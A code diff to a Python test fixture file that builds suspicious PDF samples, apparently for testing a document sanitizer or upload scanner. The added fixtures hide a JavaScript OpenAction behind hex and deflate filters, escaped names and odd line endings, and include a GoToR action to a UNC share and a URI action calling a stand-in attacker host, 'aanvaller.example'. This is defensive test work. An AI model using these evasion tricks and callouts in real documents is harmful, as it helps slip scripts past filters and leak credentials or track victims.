@@ -86,14 +86,17 @@ SVG_WITH_SCRIPT = (b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg
 HTML_PAGE = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"
 
 
-def pdf(body: bytes = b"", *, flate: bytes | None = None) -> bytes:
-    """A small valid PDF with one page; `body` goes into the catalog, `flate` into a compressed stream."""
+def pdf(body: bytes = b"", *, flate: bytes | None = None, stream: bytes | None = None,
+        filters: bytes = b"/FlateDecode", eol: bytes = b"\n", trailer: bytes = b"") -> bytes:
+    """A small valid PDF with one page; `body` goes into the catalog, `flate` into a compressed stream (or `stream`
+    as its bytes, with `filters` as its /Filter and `eol` after the keyword), `trailer` into the trailer."""
     objects = [b"<< /Type /Catalog /Pages 2 0 R " + body + b">>",
                b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
                b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>"]
     content = flate if flate is not None else b"BT /F1 12 Tf 20 100 Td (Bedreiging) Tj ET"
-    stream = zlib.compress(content)
-    objects.append(b"<< /Length " + str(len(stream)).encode() + b" /Filter /FlateDecode >>\nstream\n" + stream + b"\nendstream")
+    data = stream if stream is not None else zlib.compress(content)
+    objects.append(b"<< /Length " + str(len(data)).encode() + b" /Filter " + filters + b" >>\nstream" + eol + data
+                   + b"\nendstream")
     out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
     offsets = []
     for number, obj in enumerate(objects, start=1):
@@ -102,7 +105,8 @@ def pdf(body: bytes = b"", *, flate: bytes | None = None) -> bytes:
     xref = len(out)
     out += f"xref\n0 {len(objects) + 1}\n0000000000 65535 f \n".encode()
     out += b"".join(f"{o:010d} 00000 n \n".encode() for o in offsets)
-    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R >>\nstartxref\n{xref}\n%%EOF\n".encode()
+    out += f"trailer\n<< /Size {len(objects) + 1} /Root 1 0 R ".encode() + trailer
+    out += f">>\nstartxref\n{xref}\n%%EOF\n".encode()
     return bytes(out)
 
 
@@ -110,6 +114,33 @@ PDF_WITH_JAVASCRIPT = pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> 
 PDF_WITH_ESCAPED_JAVASCRIPT = pdf(b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> ")
 PDF_WITH_HIDDEN_JAVASCRIPT = pdf(flate=b"<< /S /JavaScript /JS (app.alert(1)) >>")
 PDF_WITH_EMBEDDED_FILE = pdf(b"/Names << /EmbeddedFiles << /Names [(x.exe) 5 0 R] >> >> ")
+
+# The reviewer's cases (issue 14): script hidden behind another filter, or actions without JavaScript.
+_SCRIPT = b"<< /Type /Action /S /JavaScript /JS (app.alert(1)) >>"
+
+
+def _raw_deflate(data: bytes) -> bytes:
+    packer = zlib.compressobj(wbits=-15)  # deflate without the zlib header: many readers take it
+    return packer.compress(data) + packer.flush()
+
+
+PDF_HEX_THEN_FLATE = pdf(stream=zlib.compress(_SCRIPT).hex().encode() + b">", filters=b"[/ASCIIHexDecode /FlateDecode]")
+PDF_HEX_ONLY = pdf(stream=_SCRIPT.hex().encode() + b">", filters=b"/ASCIIHexDecode")
+PDF_RAW_DEFLATE = pdf(stream=_raw_deflate(_SCRIPT))
+PDF_STREAM_CR = pdf(flate=_SCRIPT, eol=b"\r")
+PDF_GOTOR_UNC = pdf(b"/OpenAction << /S /GoToR /F (\\\\\\\\aanvaller\\\\share\\\\x.pdf) /D [0 /Fit] >> ")
+PDF_OPEN_URI = pdf(b"/OpenAction << /S /URI /URI (https://aanvaller.example/track) >> ")
+PDF_RENDITION = pdf(b"/AA << /O << /S /Rendition /R 6 0 R >> >> ")
+PDF_ENCRYPTED = pdf(trailer=b"/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (y) /P -4 >> ")
+PDF_ESCAPED_FILTER = pdf(stream=_SCRIPT.hex().encode() + b">", filters=b"/ASCIIHex#44ecode")
+PDF_ESCAPED_OPENACTION = pdf(b"/Op#65nAction << /S /GoToR /F (x.pdf) >> ")
+
+
+def pdf_with_photo() -> bytes:
+    """A PDF with a JPEG picture (/DCTDecode) and a compressed page: what a scanner or a phone writes."""
+    out = io.BytesIO()
+    _picture().save(out, "JPEG")
+    return pdf(stream=out.getvalue(), filters=b"/DCTDecode")
 
 
 def pdf_zip_polyglot() -> bytes:
